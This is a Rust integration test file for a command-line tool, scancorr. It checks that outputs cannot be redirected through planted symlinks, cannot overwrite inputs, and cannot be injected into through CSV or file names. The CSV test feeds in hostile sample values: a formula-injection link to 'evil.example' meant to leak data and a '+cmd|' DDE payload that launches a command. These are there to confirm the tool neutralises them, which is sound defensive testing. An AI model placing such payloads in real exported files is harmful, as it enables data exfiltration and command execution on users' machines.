//! Outputs cannot be redirected and never overwrite inputs (issue 44, item 5), each finding
//! reproduced through the `scancorr` binary:
//!
//! * a symlink planted under an output's temporary name (`<out>.tmp-<pid>`) is never followed:
//!   its target is untouched, whichever way the command writes (a whole document, a CSV
//!   written through a handle, a bag);
//! * `lab discover` refuses, before any work and naming both files, an --out-dir that would
//!   overwrite one of its inputs (`calibration.json`, a step's `v<N>.json`, through a symlink
//!   or a hard link too) and a --report that is one of the files it writes there;
//! * effect ids from a bag reach the CSV header sanitised (no line break, comma or quote) and
//!   a cell that would be a formula (`=HYPERLINK(…)`) neutralised;
//! * a bag's file name cannot inject a row into the `xyz` header;
//! * an output flag naming a file that exists is refused (the file untouched) unless
//!   `--force`; `--out -` writes a text output (a report, a descriptor set, a CSV) to standard
//!   output and the command's own lines to stderr, and a bag refuses it (issue 47, item 5).

mod common;
use common::*;
use std::path::Path;
use std::process::Command;

/// Runs `scancorr ARGS` in `dir` as a process that first plants a symlink named
/// `<out>.tmp-<its own pid>` pointing at `target` (`sh` execs scancorr, which keeps the pid).
fn run_with_planted_link(dir: &Path, out: &str, target: &str, args: &[&str]) -> String {
    let o = Command::new("sh")
        .arg("-c")
        .arg(r#"ln -s "$1" "$2.tmp-$$" && shift 2 && exec "$@""#)
        .arg("sh")
        .arg(target)
        .arg(out)
        .arg(scancorr())
        .args(args)
        .env("SCANCORR_FORCE", "1")
        .current_dir(dir)
        .output()
        .expect("sh runs");
    let err = String::from_utf8_lossy(&o.stderr).to_string();
    assert!(
        o.status.success(),
        "scancorr {args:?} with a planted link failed:\n{err}"
    );
    err
}

/// The planted links left in `dir` for `out` (they are someone else's: left alone).
fn planted(dir: &Path, out: &str) -> Vec<std::path::PathBuf> {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with(&format!("{out}.tmp-")))
        })
        .collect()
}

#[test]
fn a_planted_temporary_symlink_is_never_followed() {
    let dir = scratch("cli-outputs-link");
    sim_ring(&dir, "cal.json");
    ok(
        &dir,
        &[
            "correct", "--bag", "r.mcap", "--calib", "cal.json", "--out", "o.mcap",
        ],
    );
    let precious = "precious: not to be overwritten\n";
    std::fs::write(dir.join("victim.txt"), precious).unwrap();

    // A whole document (`write_file`), a CSV (written through the temporary's handle) and a
    // bag (the bag writer): each with a link to the victim under its temporary name, and each
    // with a dangling link (O_EXCL would have created its target).
    let cases: [(&str, Vec<&str>); 3] = [
        ("d.bin", vec!["proto", "--out", "d.bin"]),
        ("e.csv", vec!["export", "--bag", "o.mcap", "--out", "e.csv"]),
        (
            "c2.mcap",
            vec![
                "correct", "--bag", "r.mcap", "--calib", "cal.json", "--out", "c2.mcap",
            ],
        ),
    ];
    for (out, args) in &cases {
        run_with_planted_link(&dir, out, "victim.txt", args);
        assert!(
            std::fs::read(dir.join("victim.txt")).unwrap() == precious.as_bytes(),
            "{args:?}: the planted link's target was written"
        );
        let m = std::fs::symlink_metadata(dir.join(out)).unwrap();
        assert!(
            m.file_type().is_file(),
            "{args:?}: {out} is not a regular file"
        );
        assert!(m.len() > 0, "{args:?}: {out} is empty");
        let links = planted(&dir, out);
        assert_eq!(links.len(), 1, "{args:?}: {links:?}");
        assert!(
            std::fs::symlink_metadata(&links[0])
                .unwrap()
                .file_type()
                .is_symlink(),
            "{args:?}: the planted link was replaced"
        );
        std::fs::remove_file(&links[0]).unwrap();

        run_with_planted_link(&dir, out, "created-by-the-link", args);
        assert!(
            !dir.join("created-by-the-link").exists(),
            "{args:?}: a dangling link was followed"
        );
        for l in planted(&dir, out) {
            std::fs::remove_file(l).unwrap();
        }
    }
    // What was written is the output itself.
    let csv = std::fs::read_to_string(dir.join("e.csv")).unwrap();
    assert!(
        csv.starts_with("machine,seq,"),
        "{}",
        &csv[..80.min(csv.len())]
    );
    assert!(!points(&dir.join("c2.mcap")).is_empty());
    ok(&dir, &["proto", "--out", "plain.bin"]);
    assert!(
        std::fs::read(dir.join("d.bin")).unwrap() == std::fs::read(dir.join("plain.bin")).unwrap(),
        "d.bin differs from what `proto` writes without a planted link"
    );
}

#[test]
fn lab_discover_refuses_outputs_over_inputs() {
    let dir = scratch("cli-outputs-discover");
    sim_ring(&dir, "cal.json");
    let cal = std::fs::read_to_string(dir.join("cal.json")).unwrap();
    let version = serde_json::from_str::<serde_json::Value>(&cal).unwrap()["version"]
        .as_u64()
        .unwrap();
    let step = format!("v{}.json", version + 1);
    std::fs::create_dir_all(dir.join("steps")).unwrap();
    let nothing_written = |why: &str| {
        let mut names: Vec<String> = std::fs::read_dir(dir.join("steps"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
            .iter()
            .for_each(|n| assert!(!n.contains(".tmp-"), "{why}: {names:?}"));
        names
    };
    let discover = |calib: &str, extra: &[&str], needles: &[&str], why: &str| {
        let mut args = vec![
            "lab",
            "discover",
            "--bag",
            "r.mcap",
            "--calib",
            calib,
            "--out-dir",
            "steps",
        ];
        args.extend_from_slice(extra);
        let before = nothing_written(why);
        let err = fails(&dir, &args, needles);
        assert_eq!(nothing_written(why), before, "{why}: something was written");
        err
    };

    // The input calibration is the final `calibration.json` of the folder.
    std::fs::write(dir.join("steps/calibration.json"), &cal).unwrap();
    discover(
        "steps/calibration.json",
        &[],
        &[
            "--out-dir steps/calibration.json",
            "the input --calib steps/calibration.json",
            "same file",
        ],
        "calibration.json",
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("steps/calibration.json")).unwrap(),
        cal
    );
    std::fs::remove_file(dir.join("steps/calibration.json")).unwrap();

    // The input is named like the first step's version.
    std::fs::write(dir.join("steps").join(&step), &cal).unwrap();
    discover(
        &format!("steps/{step}"),
        &[],
        &[&format!("--out-dir steps/{step}"), "same file"],
        "a step's name",
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("steps").join(&step)).unwrap(),
        cal
    );
    std::fs::remove_file(dir.join("steps").join(&step)).unwrap();

    // A step's version is a symlink to, or a hard link of, the input outside the folder.
    std::os::unix::fs::symlink(dir.join("cal.json"), dir.join("steps").join(&step)).unwrap();
    discover(
        "cal.json",
        &[],
        &[
            &format!("--out-dir steps/{step}"),
            "the input --calib cal.json",
        ],
        "symlink",
    );
    std::fs::remove_file(dir.join("steps").join(&step)).unwrap();
    std::fs::hard_link(dir.join("cal.json"), dir.join("steps/calibration.json")).unwrap();
    discover(
        "cal.json",
        &[],
        &[
            "--out-dir steps/calibration.json",
            "the input --calib cal.json",
        ],
        "hard link",
    );
    std::fs::remove_file(dir.join("steps/calibration.json")).unwrap();
    assert_eq!(std::fs::read_to_string(dir.join("cal.json")).unwrap(), cal);

    // --report over the final calibration or a step's version (the folder not there yet,
    // spelt another way), and --report over the input.
    discover(
        "cal.json",
        &["--report", "steps/calibration.json"],
        &[
            "--out-dir steps/calibration.json",
            "--report steps/calibration.json",
            "one would overwrite the other",
        ],
        "--report calibration.json",
    );
    discover(
        "cal.json",
        &["--report", &format!("./steps/{step}")],
        &[
            &format!("--report ./steps/{step}"),
            "one would overwrite the other",
        ],
        "--report a step",
    );
    let err = fails(
        &dir,
        &[
            "lab",
            "discover",
            "--bag",
            "r.mcap",
            "--calib",
            "cal.json",
            "--out-dir",
            "new/steps",
            "--report",
            "new/x/../steps/./calibration.json",
        ],
        &[
            "--report new/x/../steps/./calibration.json",
            "--out-dir new/steps/calibration.json",
        ],
    );
    assert!(!dir.join("new").exists(), "{err}");
    discover(
        "cal.json",
        &["--report", "cal.json"],
        &["--report cal.json", "the input --calib cal.json"],
        "--report over the input",
    );
    assert_eq!(std::fs::read_to_string(dir.join("cal.json")).unwrap(), cal);

    // Files of the folder that are no output, and a report elsewhere, pass the check (the
    // run then stops at the missing bag, not at a refusal).
    std::fs::write(dir.join("steps/v1000000.json"), &cal).unwrap();
    let err = fails(
        &dir,
        &[
            "lab",
            "discover",
            "--bag",
            "missing.mcap",
            "--calib",
            "steps/v1000000.json",
            "--out-dir",
            "steps",
            "--report",
            "steps/discover.html",
        ],
        &["missing.mcap"],
    );
    assert!(!err.contains("same file"), "{err}");
}

/// The cells of one CSV record (RFC 4180; no line breaks inside cells expected).
fn cells(line: &str) -> Vec<String> {
    let (mut out, mut cur, mut quoted, mut chars) =
        (vec![], String::new(), false, line.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cur.push('"');
            }
            ('"', true) => quoted = false,
            ('"', false) if cur.is_empty() => quoted = true,
            (',', false) => out.push(std::mem::take(&mut cur)),
            (c, _) => cur.push(c),
        }
    }
    assert!(!quoted, "an unclosed quote: {line}");
    out.push(cur);
    out
}

#[test]
fn effect_ids_cannot_inject_formulas_into_the_csv_header() {
    let dir = scratch("cli-outputs-csv");
    sim_ring(&dir, "cal.json");
    ok(
        &dir,
        &[
            "correct", "--bag", "r.mcap", "--calib", "cal.json", "--out", "o.mcap",
        ],
    );

    // A corrected bag whose points name their effects as a hostile producer would.
    use scancorr_proto::Message;
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
        "+cmd|' /C calc'!A0",
        "x\n1,2,3\r\ny",
    ];
    let r = scancorr_bag::BagReader::open(dir.join("o.mcap")).unwrap();
    let mut w =
        scancorr_bag::BagWriter::create(dir.join("h.mcap"), scancorr_bag::BagHeader::default())
            .unwrap();
    let mut renamed = std::collections::BTreeMap::new();
    for m in r.messages().unwrap() {
        let m = m.unwrap();
        if m.stream != scancorr_bag::Stream::Points {
            continue;
        }
        let mut pts = scancorr_proto::v1::CorrectedPointBatch::decode(&*m.data)
            .unwrap()
            .into_points()
            .unwrap();
        for p in &mut pts {
            for c in &mut p.corrections {
                let n = renamed.len();
                let to = renamed
                    .entry(c.effect.clone())
                    .or_insert_with(|| hostile[n % hostile.len()].to_string());
                c.effect = to.clone();
            }
        }
        let bytes = scancorr_proto::points::pack(&pts).encode_to_vec();
        w.write(
            m.stream,
            &m.machine,
            r.prefix(),
            m.log_time,
            m.publish_time,
            &bytes,
        )
        .unwrap();
    }
    w.finish().unwrap();
    assert!(
        renamed.len() >= 2,
        "the calibration has effects: {renamed:?}"
    );

    ok(&dir, &["export", "--bag", "h.mcap", "--out", "h.csv"]);
    let csv = std::fs::read_to_string(dir.join("h.csv")).unwrap();
    let n = points(&dir.join("h.mcap")).len();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), n + 1, "one line per point and the header");
    let head = cells(lines[0]);
    for h in &head {
        assert!(
            !h.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula in the header: {h:?}"
        );
        assert!(!h.contains(['"', ',', '\n', '\r']), "{h:?}");
    }
    assert!(
        head.iter().any(|h| h.starts_with("'=HYPERLINK(")),
        "{head:?}"
    );
    assert!(head.iter().any(|h| h.starts_with("'+cmd|")), "{head:?}");
    for l in &lines[1..] {
        assert_eq!(cells(l).len(), head.len(), "{l}");
    }
    // Negative numbers stay numbers.
    assert!(
        lines[1..].iter().any(|l| cells(l)
            .iter()
            .any(|c| c.starts_with('-') && c.parse::<f64>().is_ok())),
        "no negative number in the rows"
    );
}

#[test]
fn a_bag_name_cannot_inject_a_row_into_the_xyz_header() {
    let dir = scratch("cli-outputs-xyz");
    sim_ring(&dir, "cal.json");
    ok(
        &dir,
        &[
            "correct", "--bag", "r.mcap", "--calib", "cal.json", "--out", "o.mcap",
        ],
    );
    // A bag named with line breaks: the xyz header stays comments, the rows are the points.
    let name = "o\n1 2 3\n.mcap";
    std::fs::copy(dir.join("o.mcap"), dir.join(name)).unwrap();
    ok(
        &dir,
        &["export", "--bag", name, "--format", "xyz", "--out", "p.xyz"],
    );
    let xyz = std::fs::read_to_string(dir.join("p.xyz")).unwrap();
    let contact = points(&dir.join("o.mcap"))
        .iter()
        .filter(|p| {
            p.normal
                .as_ref()
                .is_some_and(|n| [n.x, n.y, n.z].iter().any(|v| *v != 0.0))
        })
        .count();
    let rows: Vec<&str> = xyz.lines().filter(|l| !l.starts_with('#')).collect();
    assert_eq!(rows.len(), contact, "{}", &xyz[..300.min(xyz.len())]);
    assert!(!rows.contains(&"1 2 3"), "a row injected by the bag's name");
    for r in &rows {
        let v: Vec<f64> = r
            .split_whitespace()
            .map(|x| x.parse().unwrap_or_else(|_| panic!("{r}")))
            .collect();
        assert_eq!(v.len(), 3, "{r}");
    }
    assert!(xyz.contains("# from o\\n1 2 3\\n.mcap"), "{xyz:.300}");
}

/// `scancorr ARGS` in `dir` without `SCANCORR_FORCE` (which the tests' `run` sets).
fn run_as_user(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new(scancorr())
        .env_remove("SCANCORR_FORCE")
        .args(args)
        .current_dir(dir)
        .output()
        .expect("scancorr runs")
}

#[test]
fn an_existing_output_needs_force_and_dash_is_standard_output() {
    let dir = scratch("cli-outputs-force");
    let old = b"an engineer's file\n";
    std::fs::write(dir.join("x.bin"), old).unwrap();
    // Refused, named, untouched, no temporary left behind.
    let o = run_as_user(&dir, &["proto", "--out", "x.bin"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success(), "an existing --out was replaced");
    assert!(
        err.contains("--out x.bin") && err.contains("exists") && err.contains("--force"),
        "{err}"
    );
    assert_eq!(std::fs::read(dir.join("x.bin")).unwrap(), old);
    assert_eq!(
        std::fs::read_dir(&dir).unwrap().count(),
        1,
        "a temporary was left"
    );
    // --force (anywhere on the line) replaces it.
    let o = run_as_user(&dir, &["proto", "--out", "x.bin", "--force"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let descriptors = std::fs::read(dir.join("x.bin")).unwrap();
    assert!(descriptors.len() > 100 && descriptors != old);

    // `--out -`: the output on stdout, no file named `-`.
    let o = run_as_user(&dir, &["proto", "--out", "-"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(o.stdout, descriptors, "proto --out - differs from the file");
    assert!(!dir.join("-").exists(), "a file named `-` was written");

    // A report on stdout; what the command prints goes to stderr.
    sim_ring(&dir, "cal.json");
    let o = run_as_user(
        &dir,
        &[
            "lab", "compare", "--bag", "r.mcap", "--calib", "cal.json", "--report", "-",
        ],
    );
    let (out, err) = (
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr),
    );
    assert!(o.status.success(), "{err}");
    assert!(
        out.starts_with("<!doctype html>") && out.trim_end().ends_with("</html>"),
        "stdout is not the report alone: {}",
        &out[..200.min(out.len())]
    );
    assert!(err.contains("RMS"), "the summary went nowhere: {err}");
    // A report over an existing file: refused before the work.
    std::fs::write(dir.join("r.html"), "mine").unwrap();
    let o = run_as_user(
        &dir,
        &[
            "lab", "compare", "--bag", "r.mcap", "--calib", "cal.json", "--report", "r.html",
        ],
    );
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("--report r.html"));
    assert_eq!(std::fs::read_to_string(dir.join("r.html")).unwrap(), "mine");
    // A bag is written with seeks: `-` is refused, naming why, and nothing is written.
    let o = run_as_user(&dir, &["sim", "--program", "ring", "--out", "-"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        !o.status.success() && err.contains("standard output"),
        "{err}"
    );
    assert!(o.stdout.is_empty() && !dir.join("-").exists());
}

/// The CLI's connection errors say what is wrong (issue 47, items 2 and 5): a TLS certificate
/// the zenoh configuration names but that is missing is named with its key; something that
/// listens but establishes no session (a router refusing the TLS handshake, or no zenoh) is a
/// refusal, not "nothing answers".
#[test]
fn tls_files_are_named_and_a_refusal_is_not_an_absence() {
    let dir = scratch("cli-tls-errors");
    std::fs::write(
        dir.join("c.json5"),
        r#"{ connect: { endpoints: ["tls/127.0.0.1:9"] },
             transport: { link: { tls: { root_ca_certificate: "nosuch-ca.pem" } } } }"#,
    )
    .unwrap();
    let o = run_as_user(&dir, &["status", "--zenoh-config", "c.json5"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        err.contains("--zenoh-config c.json5")
            && err.contains("`transport/link/tls/root_ca_certificate`")
            && err.contains("nosuch-ca.pem")
            && err.contains("cannot read"),
        "{err}"
    );
    // Something listens and hangs up at once: refused.
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in l.incoming() {
            drop(c);
        }
    });
    let ep = format!("tcp/127.0.0.1:{port}");
    let o = run_as_user(&dir, &["status", "--connect", &ep]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        err.contains(&format!("something listens at {ep}")) && err.contains("TLS handshake"),
        "{err}"
    );
    // Nothing there at all.
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let ep = format!("tcp/127.0.0.1:{}", free.local_addr().unwrap().port());
    drop(free);
    let o = run_as_user(&dir, &["status", "--connect", &ep]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        !o.status.success() && err.contains("nothing answers there"),
        "{err}"
    );
}
